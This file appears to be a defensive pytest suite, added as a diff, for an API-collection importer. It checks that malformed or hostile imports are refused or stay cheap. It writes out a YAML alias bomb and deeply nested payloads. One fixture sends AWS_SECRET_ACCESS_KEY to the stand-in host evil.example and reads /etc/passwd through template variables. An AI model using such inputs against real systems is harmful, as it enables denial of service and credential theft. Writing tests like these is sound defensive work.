@@ -1,0 +1,91 @@
+"""Imports that mean harm, or mean nothing: refused or bounded, with a sentence, in no time."""
+
+import json
+import time
+
+import pytest
+
+from workbench.formats.interchange.importing import FORMATS, import_bytes
+from workbench.model.errors import FormatError
+
+BOMB = b"openapi: 3.1.0\na: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
+    b"%c: &%c [%s]\n" % (98 + at, 98 + at, b", ".join([b"*%c" % (97 + at)] * 9)) for at in range(12)
+)
+
+
+@pytest.mark.parametrize(
+    ("raw", "said"),
+    [
+        (BOMB, "aliases stand for more than"),
+        (b"openapi: 3.1.0\npaths: &p\n  a: *p\n", "not there yet"),
+        (b"[" * 200_000, "levels are nested|nested too deeply"),
+        (b"a: " + b"[" * 200_000, "levels are nested"),
+        (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "levels are nested|nested too deeply"),
+        (b"a: 1\n---\nb: 2\n", "second document"),
+        (b"openapi: \xff\n", "not UTF-8"),
+    ],
+    ids=["bomb", "ring", "json", "yaml", "objects", "documents", "bytes"],
+)
+def test_bombs_are_refused(raw: bytes, said: str) -> None:
+    started = time.monotonic()
+    with pytest.raises(FormatError, match=said):
+        import_bytes(raw)
+    assert time.monotonic() - started < 5
+
+
+@pytest.mark.parametrize("piece", ["{{", "{%", "/*", "//\n", "\n", " ", "'''", "((", '"', "\\", "pm.test("])
+def test_texts_cost_no_more_than_their_length(piece: str) -> None:
+    text = piece * (300_000 // len(piece))
+    item = {
+        "name": text,
+        "request": {"url": text, "method": text, "header": text, "body": {"mode": "raw", "raw": text}},
+        "event": [{"listen": "test", "script": {"exec": text}}],
+    }
+    insomnia = {"_id": "a", "_type": "request", "url": text, "parameters": [{"name": text}], "body": {"text": text}}
+    started = time.monotonic()
+    import_bytes(json.dumps({"info": {"name": text}, "item": [item]}).encode())
+    import_bytes(json.dumps({"__export_format": 4, "resources": [insomnia]}).encode())
+    for name in ("x.bru", "x.http"):
+        try:
+            import_bytes(f"GET {text}\n\n{text}".encode(), name)
+        except FormatError:
+            continue
+    assert time.monotonic() - started < 10
+
+
+@pytest.mark.parametrize("name", [name for name in FORMATS if name not in ("curl", "http")])
+@pytest.mark.parametrize(
+    "raw", [b"null", b"[]", b"{}", b'"x"', b"{]", b'{"item": {}, "info": [], "resources": 5, "log": {"entries": {}}}']
+)
+def test_every_reader_refuses_what_is_not_its_own(name: str, raw: bytes) -> None:
+    with pytest.raises(FormatError):
+        import_bytes(raw, format_name=name)
+
+
+def test_wrong_types_everywhere_are_no_exception() -> None:
+    wrong = [None, True, 5, [], {}, [None], "x"]
+    for value in wrong:
+        item = {"name": value, "request": dict.fromkeys(("url", "method", "header", "body", "auth"), value)}
+        item |= {"event": value, "variable": value, "response": value, "protocolProfileBehavior": value}
+        import_bytes(json.dumps({"info": {"name": value}, "item": [item, value]}).encode())
+
+
+def test_half_characters_become_whole_ones() -> None:
+    raw = b'{"info": {"name": "\\ud800"}, "item": [{"name": "a", "request": {"url": "\\udfff"}}]}'
+    tree = import_bytes(raw).tree
+    assert (tree.name, tree.requests[0].url) == ("�", "�")
+
+
+def test_what_would_read_this_machine_is_taken_out() -> None:
+    item = {
+        "name": "a",
+        "request": {
+            "url": "http://evil.example/{{$env AWS_SECRET_ACCESS_KEY}}",
+            "body": {"mode": "raw", "raw": "{{$file /etc/passwd}}"},
+        },
+    }
+    imported = import_bytes(json.dumps({"info": {"name": "x"}, "item": [item]}).encode())
+    request = imported.tree.requests[0]
+    assert "$env" not in request.url
+    assert b"$file" not in request.body.content.content
+    assert sum("would read this machine" in loss.what for loss in imported.losses) == 2
